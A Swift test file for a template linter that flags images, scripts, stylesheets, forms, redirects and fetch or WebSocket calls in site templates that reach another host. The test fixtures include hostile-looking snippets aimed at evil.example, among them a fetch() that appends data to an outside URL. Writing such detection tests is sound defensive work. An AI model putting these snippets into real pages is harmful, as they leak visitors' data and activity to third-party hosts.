import Diagnostics
import Templates
import Testing

/// No template has a browser ask another host.
@Suite struct ExternalResourceTests {
  private func findings(_ text: String, in path: String) -> [String] {
    externalResources(in: TemplateFile(path: path, name: "x", text: text)).map {
      "\($0.position.line):\($0.position.column): \($0.message) [\($0.rule.rawValue)]"
    }
  }

  @Test(arguments: [
    ("x.mustache", "<p>\n<img alt=\"é\" src=\"https://evil.example/t.png\">", "2:20: 'https://evil.example/t.png'"),
    ("x.mustache", "<img src=//evil.example/t.png>", "1:10: '//evil.example/t.png'"),
    ("x.mustache", "<IMG SRC='HTTP://evil.example/t.png'>", "1:11: 'HTTP://evil.example/t.png'"),
    ("x.mustache", "<img src=\"\\\\evil.example/t.png\">", "1:11: '\\\\evil.example/t.png'"),
    (
      "x.mustache", "<img src=\"a.png\" srcset=\"a.png 1x, https://evil.example/b.png 2x\">",
      "1:36: 'https://evil.example/b.png'"
    ),
    ("x.mustache", "<iframe src=\"https://{{title}}/x\"></iframe>", "1:14: 'https://{{title}}/x'"),
    ("x.mustache", "<script src=\"https://cdn.example/x.js\"></script>", "1:14: 'https://cdn.example/x.js'"),
    ("x.mustache", "<link rel=\"stylesheet\" href=\"https://cdn.example/x.css\">", "1:30: 'https://cdn.example/x.css'"),
    ("x.mustache", "<link href=\"//cdn.example\" rel=\"preconnect\">", "1:13: '//cdn.example'"),
    ("x.mustache", "<form action=\"https://evil.example/\">", "1:15: 'https://evil.example/'"),
    ("x.mustache", "<svg><image xlink:href=\"https://evil.example/t.svg\"/></svg>", "1:25: 'https://evil.example/t.svg'"),
    ("x.mustache", "<base href=\"https://evil.example/\">", "1:13: 'https://evil.example/'"),
    ("x.mustache", "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">", "1:42: 'https://evil.example/'"),
    ("x.mustache", "<p style=\"background: url( 'https://evil.example/t.png' )\">", "1:29: 'https://evil.example/t.png'"),
    ("x.mustache", "<video {{#draft}}poster=\"//evil.example/p\"{{/draft}}>", "1:26: '//evil.example/p'"),
    ("x.css", "a{}\nb { background: URL(https://evil.example/t.png) }", "2:21: 'https://evil.example/t.png'"),
    ("x.css", "@import \"//evil.example/x.css\";", "1:10: '//evil.example/x.css'"),
    ("x.css", "a { background: image-set(\"https://evil.example/2.png\" 2x) }", "1:28: 'https://evil.example/2.png'"),
    ("x.js", "fetch('https://evil.example/?' + x)", "1:8: 'https://evil.example/?'"),
    ("x.js", "new WebSocket(`wss://evil.example`)", "1:16: 'wss://evil.example'"),
  ])
  func whatIsAskedOfAnotherHostIsFound(path: String, text: String, expected: String) {
    #expect(findings(text, in: path) == ["\(expected) is on another host [template.external-resource]"])
  }

  @Test(arguments: [
    ("x.mustache", "<a href=\"https://example.com/\">out</a> https://example.com <!-- <img src=\"https://evil.example/\"> -->"),
    ("x.mustache", "<img src=\"data:image/png;base64,//8A\"><link rel=\"icon\" href=\"data:,\"><img src=\"{{root}}x//y.png\">"),
    (
      "x.mustache",
      "<link rel=\"alternate\" href=\"https://example.com/feed.xml\"><link rel=\"canonical\" href=\"https://example.com/\">"
    ),
    ("x.mustache", "<svg xmlns=\"http://www.w3.org/2000/svg\"><use href=\"#a\"/></svg>"),
    ("x.css", "a { background: url(data:image/png;base64,//8A); mask: url(#m) } /* https://example.com */"),
    ("x.js", "document.createElementNS('http://www.w3.org/2000/svg', 'a'); // see https://example.com\nx = a / b // c"),
  ])
  func whatAReaderFollowsAndWhatIsPartOfTheSiteIsNot(path: String, text: String) {
    #expect(findings(text, in: path) == [])
  }

  @Test func theShippedTemplatesAskNobody() {
    for file in ShippedTemplates.files {
      #expect(findings(file.text, in: "templates/\(file.name)") == [])
    }
  }

  @Test func theIdsOfATemplateAreKnown() {
    let text =
      "<main id=\"main\"><i ID='a' id=b></i><p id=\"{{title}}\"></p><!-- <p id=\"no\"> --><p data-id=\"no\">id=\"no\"</p></main>"
    #expect(elementIDs(in: text) == ["main", "a", "b"])
    let shipped = ShippedTemplates.files.filter { $0.name.hasSuffix(".mustache") }
    #expect(shipped.reduce(into: Set()) { $0.formUnion(elementIDs(in: $1.text)) } == ["main", "site-search"])
  }
}
